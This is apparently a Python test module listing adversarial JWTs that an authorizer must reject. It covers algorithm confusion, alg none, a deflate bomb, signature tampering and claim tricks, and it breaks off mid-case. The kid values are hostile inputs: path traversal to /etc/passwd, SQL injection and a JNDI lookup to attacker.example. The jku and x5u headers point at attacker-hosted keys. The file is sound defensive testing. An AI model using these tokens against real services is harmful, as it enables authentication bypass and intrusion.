"""The adversarial corpus: every hostile token and event we know of, with the outcome it must get.

Each :class:`Case` is generated against the trusted :mod:`world` (real keys, so a "valid
signature" really is one) and says:

* ``reason``  the reason code the denial must carry (log field ``reason``, metric
  ``Reason_<code>``), from :mod:`jwt_authorizer.errors`;
* ``status``  401 (token rejected) or 403 (valid token, route refused);
* ``kinds``   the event kinds it applies to (a query-string credential means nothing to a TOKEN
  event);
* ``doc``     why the input is hostile: the attack or the library bug it reproduces.

Token-level cases travel as ``Authorization: Bearer <token>`` in every event kind;
event-level cases (two headers, query string, ...) build the whole event per kind.

Categories: ``alg`` (none and friends), ``hmac`` (HS* keyed with the public key: CVE-2024-33663
and its DER variant), ``confusion`` (RSA/EC/PSS mix-ups), ``kid``, ``embedded-key``
(jku/x5u/jwk/x5c), ``jwe`` (CVE-2024-33664 and other five-part tokens), ``crit``,
``duplicates``, ``time``, ``issuer``, ``audience``, ``entra``, ``signature``, ``size``,
``encoding``, ``nested``, ``placement`` (where the credential is), ``event``, ``route`` (403).
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from typing import Any, Final

from tests.security.world import (
    B2C_AUDIENCE,
    B2C_ISSUER,
    ENTRA_TENANT,
    GRAPH_AUDIENCE,
    MULTI_ISSUER,
    OIDC_AUDIENCE,
    PARTNER_TENANT,
    STRANGER_TENANT,
    World,
    world,
)
from tests.support.hostile import (
    EVENT_KINDS,
    ORDERS,
    REQUEST_KINDS,
    Kind,
    Route,
    der_secret,
    ecdsa_der_signature,
    hmac_jws,
    jwe_compact,
    jwk_secret,
    jws,
    make_event,
    openssh_secret,
    pem_secret,
    pkcs1_der_secret,
    rsa_pss_signature,
    segment,
    self_signed_certificate,
    thumbprint,
)
from tests.support.signing import b64url

MAX_TOKEN: Final = 16 * 1024  # the configured default max_token_bytes
EventFactory = Callable[[Kind], dict[str, Any]]


@dataclass(frozen=True)
class Case:
    name: str
    category: str
    reason: str
    doc: str
    token: str | None = None
    authorization: str | None = None
    event: EventFactory | None = None
    route: Route = ORDERS
    kinds: tuple[Kind, ...] = EVENT_KINDS
    status: int = 401

    def build_event(self, kind: Kind) -> dict[str, Any]:
        if self.event is not None:
            return self.event(kind)
        value = self.authorization if self.authorization is not None else f"Bearer {self.token}"
        return make_event(kind, value, self.route)

    def secrets(self) -> list[str]:
        """Token material that must never appear in output (the token and its long segments)."""
        found: list[str] = []
        for text in (self.token, self.authorization):
            if text:
                found.append(text.removeprefix("Bearer "))
        return found


def _rs(world: World, header: Any, payload: Any) -> str:
    """Signed with the real B2C key over exactly these header/payload bytes."""
    return jws(header, payload, world.b2c, alg="RS256")


def _hdr(world: World, **extra: Any) -> dict[str, Any]:
    header: dict[str, Any] = {"alg": "RS256", "typ": "JWT", "kid": world.b2c.kid}
    header.update(extra)
    return {key: value for key, value in header.items() if value is not None}


def _raw_payload(world: World, *members: str) -> str:
    """A B2C payload as JSON text with ``members`` (raw ``"name":value`` text) spliced in."""
    valid = world.payload("b2c")
    spliced = {key: value for key, value in valid.items() if key not in _names(members)}
    text = ",".join(f'"{key}":{_json(value)}' for key, value in spliced.items())
    return "{" + ",".join([text, *members]) + "}"


def _names(members: tuple[str, ...]) -> set[str]:
    return {member.split(":", 1)[0].strip('"') for member in members}


def _json(value: Any) -> str:
    import json

    return json.dumps(value, separators=(",", ":"))


# --------------------------------------------------------------------------- categories


def _alg(world: World) -> list[Case]:
    payload = world.payload("b2c")
    some_signature = world.b2c.sign_bytes(b"unrelated")
    cases = [
        Case(
            "alg-none-empty-signature",
            "alg",
            "malformed_token",
            "RFC 7519 unsecured JWT (alg none, empty signature): the classic bypass",
            token=jws({"alg": "none", "typ": "JWT"}, payload),
        ),
    ]
    for alg in ("none", "None", "NONE", "nOnE"):
        cases.append(
            Case(
                f"alg-{alg}-with-signature",
                "alg",
                "unsupported_alg",
                "alg none in any letter case, with junk signature bytes to pass the shape check",
                token=jws({"alg": alg, "kid": world.b2c.kid}, payload, signature=some_signature),
            )
        )
    for name, alg, reason in (
        ("alg-none-trailing-space", "none ", "unsupported_alg"),
        ("alg-empty-string", "", "unsupported_alg"),
        ("alg-lowercase-rs256", "rs256", "unsupported_alg"),
        ("alg-rs256-padded", " RS256", "unsupported_alg"),
    ):
        cases.append(
            Case(
                name,
                "alg",
                reason,
                "algorithm names compare exactly; near-misses are not normalised into RS256",
                token=_rs(world, _hdr(world, alg=alg), payload),
            )
        )
    missing: tuple[tuple[str, str | None], ...] = (
        ("alg-missing", None),
        ("alg-null", "null"),
        ("alg-list", '["RS256"]'),
    )
    for name, raw_alg in missing:
        header = (
            '{"typ":"JWT","kid":"b2c-rsa-1"}'
            if raw_alg is None
            else '{"alg":' + raw_alg + ',"typ":"JWT","kid":"b2c-rsa-1"}'
        )
        cases.append(
            Case(
                name,
                "alg",
                "malformed_token",
                "alg absent or not a string: never defaulted",
                token=_rs(world, header, payload),
            )
        )
    return cases


def _hmac(world: World) -> list[Case]:
    cases = []
    payload = world.payload("b2c")
    secrets = {
        "pem": pem_secret(world.b2c),
        "der": der_secret(world.b2c),
        "jwk-json": jwk_secret(world.b2c),
    }
    for alg in ("HS256", "HS384", "HS512"):
        for form, secret in secrets.items():
            cases.append(
                Case(
                    f"hmac-{alg.lower()}-public-key-{form}",
                    "hmac",
                    "unsupported_alg",
                    f"CVE-2024-33663 algorithm confusion: {alg} keyed with the issuer's public RSA "
                    f"key as {form} (the DER form bypasses python-jose's 3.4.0 fix)",
                    token=hmac_jws(_hdr(world, alg=alg), payload, secret, alg),
                )
            )
    oidc_payload = world.payload("oidc")
    for form, secret in (
        ("ec-pem", pem_secret(world.oidc_ec)),
        ("ec-openssh", openssh_secret(world.oidc_ec)),
        ("rsa-pkcs1-der", pkcs1_der_secret(world.oidc_rsa)),
    ):
        cases.append(
            Case(
                f"hmac-hs256-public-key-{form}",
                "hmac",
                "unsupported_alg",
                "CVE-2024-33663 as reported: an (OpenSSH) ECDSA or PKCS#1 public key as the "
                "HMAC secret",
                token=hmac_jws(
                    {"alg": "HS256", "kid": world.oidc_ec.kid}, oidc_payload, secret, "HS256"
                ),
            )
        )
    return cases


def _confusion(world: World) -> list[Case]:
    oidc = world.payload("oidc")
    rsa_kid, ec_kid = world.oidc_rsa.kid, world.oidc_ec.kid
    header_rs = {"alg": "RS256", "kid": ec_kid}
    signing_input = f"{segment({'alg': 'RS256', 'kid': rsa_kid})}.{segment(oidc)}".encode()
    pss_input = f"{segment({'alg': 'RS256', 'kid': rsa_kid})}.{segment(oidc)}"
    ec_input = f"{segment({'alg': 'ES256', 'kid': ec_kid})}.{segment(oidc)}"
    ec_raw = world.oidc_ec.sign_bytes(ec_input.encode())
    size = len(ec_raw) // 2
    return [
        Case(
            "es256-header-rsa-kid",
            "confusion",
            "unsupported_alg",
            "ES256 token naming the issuer's RSA key (both algorithms allowed for the issuer)",
            token=jws({"alg": "ES256", "kid": rsa_kid}, oidc, world.attacker_ec),
        ),
        Case(
            "rs256-header-ec-kid",
            "confusion",
            "unsupported_alg",
            "RS256 token naming the issuer's EC key",
            token=jws(header_rs, oidc, world.attacker_rsa),
        ),
        Case(
            "es256-header-real-rsa-signature",
            "confusion",
            "unsupported_alg",
            "the real RSA key's signature relabelled ES256: the key decides the algorithm family",
            token=jws(
                {"alg": "ES256", "kid": rsa_kid},
                oidc,
                signature=world.oidc_rsa.sign_bytes(signing_input),
            ),
        ),
        Case(
            "ps256-header-pkcs1-signature",
            "confusion",
            "bad_signature",
            "a PKCS#1 v1.5 signature presented as PSS (PS256 is allowed)",
            token=jws({"alg": "PS256", "kid": rsa_kid}, oidc, world.oidc_rsa, alg="RS256"),
        ),
        Case(
            "rs256-header-pss-signature",
            "confusion",
            "bad_signature",
            "a PSS signature presented as PKCS#1 v1.5",
            token=f"{pss_input}.{b64url(rsa_pss_signature(world.oidc_rsa, pss_input.encode()))}",
        ),
        Case(
            "es384-header-p256-key",
            "confusion",
            "unsupported_alg",
            "ES384 (not allowed) against a P-256 key",
            token=jws({"alg": "ES384", "kid": ec_kid}, oidc, world.attacker_ec),
        ),
        Case(
            "eddsa-at-rs256-issuer",
            "confusion",
            "unsupported_alg",
            "EdDSA at an issuer that allows RS256 only",
            token=jws(_hdr(world, alg="EdDSA"), world.payload("b2c"), signature=b"\x01" * 64),
        ),
        Case(
            "es256-at-rs256-issuer",
            "confusion",
            "unsupported_alg",
            "ES256 signed by an attacker EC key, naming the B2C RSA key",
            token=jws(_hdr(world, alg="ES256"), world.payload("b2c"), world.attacker_ec),
        ),
        Case(
            "es256-der-encoded-signature",
            "confusion",
            "bad_signature",
            "the real EC signature in ASN.1 DER instead of JOSE r||s: one encoding only",
            token=f"{ec_input}.{b64url(ecdsa_der_signature(ec_raw))}",
        ),
        Case(
            "es256-psychic-signature",
            "confusion",
            "bad_signature",
            "r = s = 0 (CVE-2022-21449 'psychic signatures' in Java's ECDSA)",
            token=f"{ec_input}.{b64url(bytes(2 * size))}",
        ),
        Case(
            "es256-r-s-equal-order",
            "confusion",
            "bad_signature",
            "r = s = n (the curve order): out-of-range values must not verify",
            token=f"{ec_input}.{b64url(_p256_order_pair())}",
        ),
    ]


def _p256_order_pair() -> bytes:
    order = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
    return order.to_bytes(32, "big") * 2


def _kid(world: World) -> list[Case]:
    payload = world.payload("b2c")
    cases = []
    for name, kid in (
        ("kid-path-traversal", "../../../../../../dev/null"),
        ("kid-path-traversal-windows", "..\\..\\..\\windows\\win.ini"),
        ("kid-absolute-path", "/etc/passwd"),
        ("kid-sql-injection", "' OR '1'='1' --"),
        ("kid-sql-after-real-kid", f"{world.b2c.kid}' OR '1'='1"),
        ("kid-nul-suffix", f"{world.b2c.kid}\x00"),
        ("kid-10kb", "A" * 10 * 1024),
        ("kid-10kb-repeating-real-kid", world.b2c.kid * (10 * 1024 // len(world.b2c.kid))),
        ("kid-empty", ""),
        ("kid-case-variant", world.b2c.kid.upper()),
        ("kid-homoglyph", world.b2c.kid.replace("b", "\u044c")),
        ("kid-jndi-lookup", "${jndi:ldap://attacker.example/a}"),
        ("kid-url", "https://attacker.example/jwks.json"),
        ("kid-other-issuers-key", world.entra.kid),
    ):
        cases.append(
            Case(
                name,
                "kid",
                "unknown_kid",
                "the kid only selects among trusted keys: no file, query or URL is ever touched",
                token=_rs(world, _hdr(world, kid=kid), payload),
            )
        )
    for name, kid in (
        ("kid-integer", "1"),
        ("kid-null", "null"),
        ("kid-true", "true"),
        ("kid-list", '["b2c-rsa-1"]'),
        ("kid-object", '{"kid":"b2c-rsa-1"}'),
    ):
        cases.append(
            Case(
                name,
                "kid",
                "malformed_token",
                "a kid that is not a string is a malformed header, not a lookup key",
                token=_rs(world, '{"alg":"RS256","kid":' + kid + "}", payload),
            )
        )
    cases.append(
        Case(
            "kid-missing",
            "kid",
            "unknown_kid",
            "no kid and no x5t: we never try every key",
            token=_rs(world, {"alg": "RS256", "typ": "JWT"}, payload),
        )
    )
    return cases


def _embedded_key(world: World) -> list[Case]:
    """jku/x5u/jwk/x5c are ignored: keys come from configuration only, the header just selects."""
    payload = world.payload("b2c")
    attacker = world.attacker_rsa
    certificate = self_signed_certificate(attacker)
    from base64 import b64encode

    x5c = [b64encode(certificate).decode("ascii")]
    variants: list[tuple[str, dict[str, Any]]] = [
        ("jku", {"jku": "https://attacker.example/.well-known/jwks.json"}),
        ("jku-loopback", {"jku": "http://127.0.0.1:8080/jwks.json"}),
        ("x5u", {"x5u": "https://attacker.example/cert.pem"}),
        ("jwk", {"jwk": attacker.public_jwk()}),
        ("x5c", {"x5c": x5c}),
        ("jwk-and-jku", {"jwk": attacker.public_jwk(), "jku": "https://attacker.example/k"}),
    ]
    cases = []
    for name, extra in variants:
        cases.append(
            Case(
                f"{name}-attacker-kid",
                "embedded-key",
                "unknown_kid",
                f"header {name} points at the attacker's key, kid names it: nothing is fetched",
                token=jws({"alg": "RS256", "kid": attacker.kid, **extra}, payload, attacker),
            )
        )
        cases.append(
            Case(
                f"{name}-trusted-kid",
                "embedded-key",
                "bad_signature",
                f"header {name} carries the attacker's key under the trusted kid",
                token=jws({"alg": "RS256", "kid": world.b2c.kid, **extra}, payload, attacker),
            )
        )
    embedded = attacker.public_jwk(kid=world.b2c.kid)
    cases.extend(
        [
            Case(
                "jwk-without-kid-claiming-trusted-kid",
                "embedded-key",
                "unknown_kid",
                "the embedded JWK names the trusted kid, the header itself has none",
                token=jws({"alg": "RS256", "jwk": embedded}, payload, attacker),
            ),
            Case(
                "x5t-of-attacker-certificate",
                "embedded-key",
                "unknown_kid",
                "x5c plus x5t thumbprint of the attacker's self-signed certificate, no kid",
                token=jws(
                    {"alg": "RS256", "x5c": x5c, "x5t": thumbprint(certificate)}, payload, attacker
                ),
            ),
        ]
    )
    return cases


def _jwe(world: World) -> list[Case]:
    inner = world.token("b2c").encode()
    bomb = jwe_compact(b"\x00" * 8_000_000, compress=True)
    assert len(bomb) <= MAX_TOKEN, "the under-limit bomb must reach the parser"
    return [
        Case(
            "jwe-dir-a256gcm",
            "jwe",
            "malformed_token",
            "a compact JWE (five parts) carrying a valid JWS: we never decrypt",
            token=jwe_compact(inner, compress=False),
        ),
        Case(
            "jwe-zip-def-bomb",
            "jwe",
            "malformed_token",
            "CVE-2024-33664 JWT bomb: 8 MB of zeros deflated into a token under the size limit",
            token=bomb,
        ),
        Case(
            "jwe-zip-def-bomb-over-limit",
            "jwe",
            "token_too_large",
            "a 64 MB deflate bomb: refused on length before anything is decoded",
            token=jwe_compact(b"\x00" * 64_000_000, compress=True),
        ),
        Case(
            "jwe-rsa-oaep-five-parts",
            "jwe",
            "malformed_token",
            "RSA-OAEP JWE shape (non-empty encrypted key)",
            token=".".join(
                [segment({"alg": "RSA-OAEP-256", "enc": "A256GCM", "kid": world.b2c.kid})]
                + [b64url(bytes([n]) * 32) for n in range(1, 5)]
            ),
        ),
        Case(
            "jws-with-enc-header",
            "jwe",
            "malformed_token",
            "a three-part token whose header says enc: a JWE header is never a JWS",
            token=_rs(world, _hdr(world, enc="A256GCM"), world.payload("b2c")),
        ),
        Case(
            "jws-with-zip-header",
            "jwe",
            "malformed_token",
            "a three-part token asking for DEFLATE: we never inflate",
            token=_rs(world, _hdr(world, zip="DEF"), world.payload("b2c")),
        ),
    ]


def _crit(world: World) -> list[Case]:
    payload = world.payload("b2c")
    cases = []
    for name, crit in (
        ("crit-exp", ["exp"]),
        ("crit-b64", ["b64"]),
        ("crit-empty-list", []),
        ("crit-string", "exp"),
        ("crit-unknown-extension", ["urn:example:must-understand"]),
    ):
        extra: dict[str, Any] = {"crit": crit}
        if name == "crit-b64":
            extra["b64"] = False
        cases.append(
            Case(
                name,
                "crit",
                "unsupported_header",
                "RFC 7515 crit: we understand no extension, so any crit must be refused",
                token=_rs(world, _hdr(world, **extra), payload),
            )
        )
    return cases


def _duplicates(world: World) -> list[Case]:
    payload = world.payload("b2c")
    kid = world.b2c.kid
    exp = payload["exp"]
    headers = (
        ("dup-header-alg-rs256-then-none", f'{{"alg":"RS256","alg":"none","kid":"{kid}"}}'),
        ("dup-header-alg-none-then-rs256", f'{{"alg":"none","alg":"RS256","kid":"{kid}"}}'),
        ("dup-header-kid", f'{{"alg":"RS256","kid":"attacker","kid":"{kid}"}}'),
        ("dup-header-escaped-name", f'{{"alg":"RS256","\\u0061lg":"none","kid":"{kid}"}}'),
    )
    cases = [
        Case(
            name,
            "duplicates",
            "malformed_token",
            "duplicate member names: parsers disagree on which wins, so none may",
            token=_rs(world, header, payload),
        )
        for name, header in headers
    ]
    payloads = (
        ("dup-payload-exp", _raw_payload(world, '"exp":1', f'"exp":{exp}')),
        (
            "dup-payload-iss",
            _raw_payload(world, '"iss":"https://evil.example/"', f'"iss":"{B2C_ISSUER}"'),
        ),
        ("dup-payload-aud", _raw_payload(world, '"aud":"other"', f'"aud":"{B2C_AUDIENCE}"')),
        ("dup-payload-scp", _raw_payload(world, '"scp":"app.read"', '"scp":"admin"')),
        ("dup-payload-nested", _raw_payload(world, '"ext":{"role":"user","role":"admin"}')),
    )
    cases.extend(
        Case(
            name,
            "duplicates",
            "malformed_token",
            "duplicate claim names (the real key signed the ambiguous bytes)",
            token=_rs(world, _hdr(world), text),
        )
        for name, text in payloads
    )
    return cases


def _time(world: World) -> list[Case]:
    payload = world.payload("b2c")
    now = payload["iat"] + 30
    raw: list[tuple[str, str, str, str]] = [
        ("exp-string", "exp", f'"{now + 3600}"', "malformed_token"),
        ("exp-true", "exp", "true", "malformed_token"),
        ("exp-false", "exp", "false", "malformed_token"),
        ("exp-null", "exp", "null", "malformed_token"),
        ("exp-list", "exp", f"[{now + 3600}]", "malformed_token"),
        ("exp-object", "exp", f'{{"$date":{now + 3600}}}', "malformed_token"),
        ("exp-2-pow-53", "exp", str(2**53), "malformed_token"),
        ("exp-10-pow-400", "exp", "1" + "0" * 400, "malformed_token"),
        ("exp-5000-digits", "exp", "9" * 5000, "malformed_token"),
        ("exp-negative-huge", "exp", str(-(2**60)), "malformed_token"),
        ("exp-NaN", "exp", "NaN", "malformed_token"),
        ("exp-Infinity", "exp", "Infinity", "malformed_token"),
        ("exp-minus-Infinity", "exp", "-Infinity", "malformed_token"),
        ("exp-1e400", "exp", "1e400", "malformed_token"),
        ("exp-negative", "exp", "-1", "expired"),
        ("exp-zero", "exp", "0", "expired"),
        ("exp-past-float", "exp", f"{now - 120}.5", "expired"),
        ("exp-just-past-leeway", "exp", str(now - 61), "expired"),
        ("nbf-string", "nbf", f'"{now}"', "malformed_token"),
        ("nbf-true", "nbf", "true", "malformed_token"),
        ("nbf-NaN", "nbf", "NaN", "malformed_token"),
        ("nbf-future", "nbf", str(now + 3000), "not_yet_valid"),
        ("nbf-future-float", "nbf", f"{now + 3000}.25", "not_yet_valid"),
        ("nbf-huge", "nbf", str(2**53 - 1), "not_yet_valid"),
        ("iat-string", "iat", f'"{now}"', "malformed_token"),
        ("iat-Infinity", "iat", "Infinity", "malformed_token"),
        ("iat-future", "iat", str(now + 3000), "issued_in_future"),
        ("iat-false", "iat", "false", "malformed_token"),
        ("auth-time-string", "auth_time", '"yesterday"', "malformed_token"),
    ]
    cases = [
        Case(
            name,
            "time",
            reason,
            f"{claim} as {text[:24]}: NumericDate is a finite JSON number, compared strictly",
            token=_rs(world, _hdr(world), _raw_payload(world, f'"{claim}":{text}')),
        )
        for name, claim, text, reason in raw
    ]
    cases.append(
        Case(
            "exp-missing",
            "time",
            "claim_mismatch",
            "a token without exp would never expire: exp is required",
            token=_rs(world, _hdr(world), world.payload("b2c", exp=None)),
        )
    )
    return cases


def _issuer(world: World) -> list[Case]:
    cases = []
    for name, iss in (
        ("iss-no-trailing-slash", B2C_ISSUER.rstrip("/")),
        ("iss-double-trailing-slash", B2C_ISSUER + "/"),
        ("iss-uppercase-host", B2C_ISSUER.replace("contoso.b2clogin.com", "CONTOSO.b2clogin.com")),
        ("iss-cyrillic-o", B2C_ISSUER.replace("contoso", "c\u043entoso")),
        ("iss-fullwidth-slash", B2C_ISSUER[:-1] + "\uff0f"),
        ("iss-trailing-space", B2C_ISSUER + " "),
        ("iss-nul-suffix", B2C_ISSUER + "\x00"),
        ("iss-http-scheme", B2C_ISSUER.replace("https://", "http://")),
        ("iss-userinfo-prefix", B2C_ISSUER.replace("https://", "https://contoso.b2clogin.com@")),
        ("iss-query-suffix", B2C_ISSUER + "?x=1"),
        ("iss-templated-literal", MULTI_ISSUER),
    ):
        cases.append(
            Case(
                name,
                "issuer",
                "unknown_issuer",
                "issuers compare exactly: no slash, case or Unicode normalisation",
                token=_rs(world, _hdr(world), world.payload("b2c", iss=iss)),
            )
        )
    cases.append(
        Case(
            "iss-missing",
            "issuer",
            "unknown_issuer",
            "no iss: no issuer, no keys",
            token=_rs(world, _hdr(world), world.payload("b2c", iss=None)),
        )
    )
    for name, text in (
        ("iss-list", f'["{B2C_ISSUER}"]'),
        ("iss-number", "1"),
        ("iss-null", "null"),
    ):
        cases.append(
            Case(
                name,
                "issuer",
                "malformed_token",
                "iss must be a string",
                token=_rs(world, _hdr(world), _raw_payload(world, f'"iss":{text}')),
            )
        )
    cases.append(
        Case(
            "iss-other-issuer-signed-by-b2c-key",
            "issuer",
            "unknown_kid",
            "claims the Entra issuer but is signed with the B2C key: keys never cross issuers",
            token=_rs(world, _hdr(world), world.payload("entra")),
        )
    )
    return cases


def _audience(world: World) -> list[Case]:
    cases = []
    for name, aud in (
        ("aud-prefix", B2C_AUDIENCE[:8]),
        ("aud-suffix", B2C_AUDIENCE + "0"),
        ("aud-uppercase", B2C_AUDIENCE.upper()),
        ("aud-trailing-space", B2C_AUDIENCE + " "),
        ("aud-space-joined", f"{B2C_AUDIENCE} other"),
        ("aud-comma-joined", f"{B2C_AUDIENCE},other"),
        ("aud-empty-string", ""),
        ("aud-empty-array", []),
        ("aud-array-without-ours", ["other", B2C_AUDIENCE[:-1]]),
        ("aud-other-configured-issuer", OIDC_AUDIENCE),
        ("aud-graph", GRAPH_AUDIENCE),
        ("aud-missing", None),
    ):
        cases.append(
            Case(
                name,
                "audience",
                "wrong_audience",
                "the audience must equal a configured one exactly (a list needs one exact member)",
                token=_rs(world, _hdr(world), world.payload("b2c", aud=aud)),
            )
        )
    for name, text in (
        ("aud-nested-array", f'[["{B2C_AUDIENCE}"]]'),
        ("aud-object", f'{{"aud":"{B2C_AUDIENCE}"}}'),
        ("aud-array-with-null", f'[null,"{B2C_AUDIENCE}"]'),
        ("aud-number", "1"),
    ):
        cases.append(
            Case(
                name,
                "audience",
                "malformed_token",
                "aud is a string or a list of strings, nothing else",
                token=_rs(world, _hdr(world), _raw_payload(world, f'"aud":{text}')),
            )
        )
    return cases


def _entra(world: World) -> list[Case]:
    key = world.entra
    stranger_iss = MULTI_ISSUER.replace("{tenantid}", STRANGER_TENANT)
    partner_iss = MULTI_ISSUER.replace("{tenantid}", PARTNER_TENANT)
    return [
        Case(
            "entra-tid-other-tenant",
            "entra",
            "wrong_tenant",
            "our tenant's issuer with another tenant's tid (Microsoft: iss path must equal tid)",
            token=key.sign(world.payload("entra", tid=STRANGER_TENANT)),
        ),
        Case(
            "entra-tid-missing",
            "entra",
            "wrong_tenant",
            "entra-id requires tid",
            token=key.sign(world.payload("entra", tid=None)),
        ),
        Case(
            "entra-tid-not-guid",
            "entra",
            "wrong_tenant",
            "tid 'common' is a routing alias, not a tenant",
            token=key.sign(world.payload("entra", tid="common")),
        ),
        Case(
            "entra-multi-tenant-not-allow-listed",
            "entra",
            "wrong_tenant",
            "a real multi-tenant token from a tenant outside the allow-list",
            token=key.sign(world.payload("multi", iss=stranger_iss, tid=STRANGER_TENANT)),
        ),
        Case(
            "entra-multi-tenant-iss-tid-mismatch",
            "entra",
            "unknown_issuer",
            "allow-listed tenant in iss, another tenant in tid",
            token=key.sign(world.payload("multi", iss=partner_iss, tid=STRANGER_TENANT)),
        ),
        Case(
            "entra-multi-tenant-our-tid-partner-iss",
            "entra",
            "unknown_issuer",
            "partner issuer, our own tenant in tid",
            token=key.sign(world.payload("multi", iss=partner_iss, tid=ENTRA_TENANT)),
        ),
        Case(
            "entra-tid-trailing-newline",
            "entra",
            "wrong_tenant",
            "our tid plus a newline (a regex ending in $ would still call it a GUID)",
            token=key.sign(world.payload("entra", tid=ENTRA_TENANT + "\n")),
        ),
        Case(
            "entra-multi-tenant-tid-trailing-newline",
            "entra",
            "unknown_issuer",
            "allow-listed tenant plus a newline in both iss and tid: not a tenant id at all",
            token=key.sign(
                world.payload(
                    "multi",
                    iss=MULTI_ISSUER.replace("{tenantid}", PARTNER_TENANT + "\n"),
                    tid=PARTNER_TENANT + "\n",
                )
            ),
        ),
        Case(
            "entra-graph-token-nonce-header",
            "entra",
            "first_party_token",
            "a Microsoft Graph token (header nonce, aud Graph) replayed against our API",
            token=key.sign(world.payload("entra", aud=GRAPH_AUDIENCE), {"nonce": "AQABAAAAAAD"}),
        ),
        Case(
            "entra-nonce-header-our-audience",
            "entra",
            "first_party_token",
            "header nonce means a first-party token whatever aud says",
            token=key.sign(world.payload("entra"), {"nonce": "AQABAAAAAAD"}),
        ),
        Case(
            "b2c-nonce-header",
            "entra",
            "first_party_token",
            "B2C is a Microsoft profile too: a header nonce never verifies",
            token=world.b2c.sign(world.payload("b2c"), {"nonce": "x"}),
        ),
    ]


def _signature(world: World) -> list[Case]:
    valid = world.token("b2c")
    head, body, signature = valid.split(".")
    other = world.token("b2c", sub="someone-else")
    assert len(signature) % 4 == 2, "RSA-2048 signatures encode to 342 characters"
    last = signature[-1]
    flipped_last = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"[
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_".index(last) ^ 1
    ]
    tampered_payload = segment(world.payload("b2c", scp="app.read app.write admin"))
    reformatted_header = segment('{ "alg": "RS256", "typ": "JWT", "kid": "b2c-rsa-1" }')
    return [
        Case(
            "foreign-key-trusted-kid",
            "signature",
            "bad_signature",
            "a valid signature by a different key carrying the trusted key's kid",
            token=jws(_hdr(world), world.payload("b2c"), world.attacker_rsa),
        ),
        Case(
            "signature-spliced-from-other-token",
            "signature",
            "bad_signature",
            "header.payload of one token with the signature of another",
            token=f"{head}.{body}.{other.split('.')[2]}",
        ),
        Case(
            "payload-tampered-after-signing",
            "signature",
            "bad_signature",
            "admin scope added to a signed payload",
            token=f"{head}.{tampered_payload}.{signature}",
        ),
        Case(
            "header-reformatted-after-signing",
            "signature",
            "bad_signature",
            "same header members, different bytes: the signature covers bytes, not meaning",
            token=f"{reformatted_header}.{body}.{signature}",
        ),
        Case(
            "signature-truncated-to-255-bytes",
            "signature",
            "bad_signature",
            "signature cut by two characters (still valid base64url)",
            token=f"{head}.{body}.{signature[:-2]}",
        ),
        Case(
            "signature-truncated-to-half",
            "signature",
            "bad_signature",
            "half a signature",
            token=f"{head}.{body}.{signature[:172]}",
        ),
        Case(
            "signature-truncated-bad-length",
            "signature",
            "malformed_token",
            "one character cut: a base64url length no encoder produces",
            token=f"{head}.{body}.{signature[:-1]}",
        ),
        Case(
            "signature-padded-one",
            "signature",
            "malformed_token",
            "base64 '=' padding appended (JWS forbids padding)",
            token=f"{valid}=",
        ),
        Case(
            "signature-padded-two",
            "signature",
            "malformed_token",
            "'==' padding appended",
            token=f"{valid}==",
        ),
        Case(
            "signature-non-canonical-last-char",
            "signature",
            "malformed_token",
            "same bytes, different text: the unused low bits of the last character set",
            token=f"{head}.{body}.{signature[:-1]}{flipped_last}",
        ),
        Case(
            "signature-standard-base64-alphabet",
            "signature",
            "malformed_token",
            "'+' and '/' from the standard alphabet",
            token=f"{head}.{body}.{signature[:-4]}+/+/",
        ),
        Case(
            "signature-empty",
            "signature",
            "malformed_token",
            "an empty signature segment",
            token=f"{head}.{body}.",
        ),
        Case(
            "signature-extra-bytes",
            "signature",
            "bad_signature",
            "four extra characters (three bytes) after a valid signature",
            token=f"{valid}AAAA",
        ),
        Case(
            "signature-zero-bytes",
            "signature",
            "bad_signature",
            "256 zero bytes",
            token=f"{head}.{body}.{b64url(bytes(256))}",
        ),
        Case(
            "signature-one-byte",
            "signature",
            "bad_signature",
            "a one-byte signature",
            token=f"{head}.{body}.AQ",
        ),
        Case(
            "signature-modulus-value",
            "signature",
            "bad_signature",
            "s = n (out of range for RSA)",
            token=f"{head}.{body}.{world.b2c.public_jwk()['n']}",
        ),
    ]


def _size(world: World) -> list[Case]:
    big = world.payload("b2c", pad="x" * MAX_TOKEN)
    return [
        Case(
            "size-one-over-limit",
            "size",
            "token_too_large",
            "one character over max_token_bytes (16 KiB)",
            token="A" * (MAX_TOKEN + 1),
        ),
        Case(
            "size-validly-signed-over-limit",
            "size",
            "token_too_large",
            "a genuinely signed token whose payload pushes it over the limit",
            token=world.b2c.sign(big),
        ),
        Case(
            "size-one-megabyte",
            "size",
            "token_too_large",
            "1 MiB of token",
            token="eyJ" + "A" * (1024 * 1024),
        ),
        Case(
            "size-many-dots",
            "size",
            "token_too_large",
            "twenty thousand segments",
            token=".".join(["e30"] * 20_000),
        ),
    ]


def _encoding(world: World) -> list[Case]:
    valid = world.token("b2c")
    head, body, signature = valid.split(".")
    payload = world.payload("b2c")
    nested = "[" * 5000 + "]" * 5000
    return [
        Case(
            "b64-plus-in-header",
            "encoding",
            "malformed_token",
            "'+' in the header segment",
            token=f"{head[:-1]}+.{body}.{signature}",
        ),
        Case(
            "b64-percent-encoded-dot",
            "encoding",
            "malformed_token",
            "a URL-encoded separator",
            token=f"{head}%2E{body}.{signature}",
        ),
        Case(
            "b64-whitespace-inside",
            "encoding",
            "malformed_token",
            "whitespace inside a segment is not skipped",
            authorization=f"Bearer {head}.{body[:10]}\t{body[10:]}.{signature}",
        ),
        Case(
            "b64-header-bad-length",
            "encoding",
            "malformed_token",
            "header of impossible base64url length",
            token=f"{head}A.{body}.{signature}"
            if len(head) % 4 == 0
            else f"{head[: len(head) - len(head) % 4]}A.{body}.{signature}",
        ),
        Case(
            "header-not-utf8",
            "encoding",
            "malformed_token",
            "header bytes that are not UTF-8 (Latin-1 kid)",
            token=_rs(world, b'{"alg":"RS256","kid":"b2c-rsa-1\xe9"}', payload),
        ),
        Case(
            "header-utf16",
            "encoding",
            "malformed_token",
            "UTF-16 JSON",
            token=_rs(world, '{"alg":"RS256","kid":"b2c-rsa-1"}'.encode("utf-16"), payload),
        ),
        Case(
            "header-utf8-bom",
            "encoding",
            "malformed_token",
            "UTF-8 byte order mark before the JSON",
